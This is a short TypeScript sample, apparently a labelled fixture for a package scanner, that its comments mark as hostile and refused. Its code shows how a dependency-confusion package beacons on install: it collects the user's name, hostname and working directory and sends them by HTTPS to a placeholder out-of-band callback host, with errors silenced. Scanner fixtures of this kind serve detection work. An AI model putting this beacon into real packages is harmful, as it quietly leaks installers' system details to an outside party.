// Hostile: tells a stranger who installs it, and where: what a dependency-confusion package does when it is installed.
// Families: exfiltration, credential-harvesting, network. As a package: refused.
import { hostname, userInfo } from 'node:os';
import { request } from 'node:https';

const who: string = encodeURIComponent(`${userInfo().username}@${hostname()}:${process.cwd()}`);
request({ hostname: 'abc.oastify.com.example.invalid', path: `/${who}`, method: 'GET' })
  .on('error', () => {})
  .end();
